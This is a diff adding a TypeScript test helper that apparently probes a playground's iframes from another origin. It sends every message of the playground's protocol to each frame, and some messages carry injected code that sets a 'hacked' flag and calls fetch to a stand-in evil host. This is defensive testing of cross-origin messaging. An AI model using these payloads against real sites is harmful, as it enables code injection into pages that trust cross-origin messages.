@@ -1,0 +1,71 @@
+/** What a page of another origin sends to what it frames: every message of the playground's frames. */
+export type Framing = { file: string; sandbox: string | undefined };
+
+/**
+ * Runs in a page of another origin, or, to see that the messages are the right ones, in one of the
+ * site: frames files and sends every message of the protocol to each, by the window and by ports.
+ * @returns what was answered, and what ran
+ */
+export async function frameFiles(text: string): Promise<string> {
+  const { site, evil, framings }: { site: string; evil: string; framings: Framing[] } =
+    JSON.parse(text);
+  const heard: string[] = [];
+  const hear = (by: string) => heard.push(by);
+  const code = `globalThis.localStorage?.setItem('hacked', '1'); fetch('${evil}/ran'); export default () => null;`;
+  const script = new Blob([`postMessage('ran'); fetch('${evil}/ran');`]);
+  const hostile = new Blob([
+    `onmessage = ({ ports: [port] }) => { port.postMessage('ran'); fetch('${evil}/ran'); }`,
+  ]);
+  const file = { name: 'App.tsx', code };
+  const messages = [
+    { kind: 'run', run: 1, modules: [{ ...file, imports: [] }], css: '', dark: false },
+    { kind: 'dark', dark: true },
+    { kind: 'ping' },
+    { id: 1, files: [file], mode: 'production' },
+    { id: 1, parse: file },
+    { kind: 'playground:script', script },
+    'playground:failed',
+    'playground:port',
+    'ready',
+    { kind: 'ready' },
+    { kind: 'shown', run: 1 },
+  ];
+  /** What begins a conversation, each with its own port. */
+  const openings = ['playground:port', { kind: 'playground:script', script: hostile }];
+  const send = (target: Window, name: string) => {
+    for (const opening of openings) {
+      const { port1, port2 } = new MessageChannel();
+      port1.onmessage = ({ data }) => hear(`${name} by a port: ${JSON.stringify(data)}`);
+      target.postMessage(opening, '*', [port2]);
+      for (const message of messages) port1.postMessage(message);
+    }
+    for (const message of messages) target.postMessage(message, '*');
+  };
+  const frameFile = async ({ file: name, sandbox }: Framing) => {
+    const frame = document.createElement('iframe');
+    if (sandbox !== undefined) frame.setAttribute('sandbox', sandbox);
+    frame.src = `${site}/${name}`;
+    const loaded = new Promise((resolve) => {
+      frame.onload = resolve;
+    });
+    const told = `${name} (${sandbox ?? 'no sandbox'})`;
+    const onMessage = ({ source, data }: MessageEvent) => {
+      if (source === frame.contentWindow) hear(`${told} by its window: ${JSON.stringify(data)}`);
+    };
+    addEventListener('message', onMessage);
+    document.body.append(frame);
+    await loaded;
+    if (frame.contentWindow) send(frame.contentWindow, told);
+    return { frame, onMessage };
+  };
+  // A few at a time, as long as a page of the site takes to answer its own frame.
+  while (framings.length > 0) {
+    const framed = await Promise.all(framings.splice(0, 8).map(frameFile));
+    await new Promise((resolve) => setTimeout(resolve, 400));
+    for (const { frame, onMessage } of framed) {
+      frame.remove();
+      removeEventListener('message', onMessage);
+    }
+  }
+  return JSON.stringify(heard);
+}
